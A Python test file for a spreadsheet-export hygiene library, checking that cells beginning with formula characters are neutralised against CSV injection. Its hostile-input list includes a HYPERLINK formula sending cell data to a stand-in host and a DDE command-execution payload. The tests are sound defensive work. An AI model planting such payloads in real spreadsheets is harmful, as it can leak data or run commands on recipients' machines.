"""The one formula-neutralising cell rule for every CSV/XLSX Hygie writes (OWASP CSV injection)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from hygie.lib.spreadsheet import csv_writer, neutralise, spreadsheet_cell, unneutralise

HOSTILE = [
    "\t=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\r=1+1",
    "  =1+1",
    "\n-2+3",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\u00a0=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert spreadsheet_cell(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Dupont", "1+1", "a=b", "", " ", "'quoted", "é@x", "10.0.0.1"])
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


def test_numbers_stay_numbers_and_other_values_become_text():
    # A real number cannot carry a formula; the *text* "-1" can (it came from a free-text field).
    assert spreadsheet_cell(-1) == -1 and spreadsheet_cell(2.5) == 2.5
    assert spreadsheet_cell(Decimal("-3")) == Decimal("-3")
    assert spreadsheet_cell("-1") == "'-1"
    assert spreadsheet_cell(None) == "" and spreadsheet_cell(True) == "True"
    assert spreadsheet_cell(date(2026, 1, 2)) == "2026-01-02"
    assert spreadsheet_cell(["=a", "b"]) == "'=a b"


def test_csv_writer_neutralises_every_cell_it_writes():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["\t=1+1", -1, "@SUM(A1)", "ok"])
    writer.writerows([["+1", "-1"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'\t=1+1", "-1", "'@SUM(A1)", "ok"], ["'+1", "'-1"]]
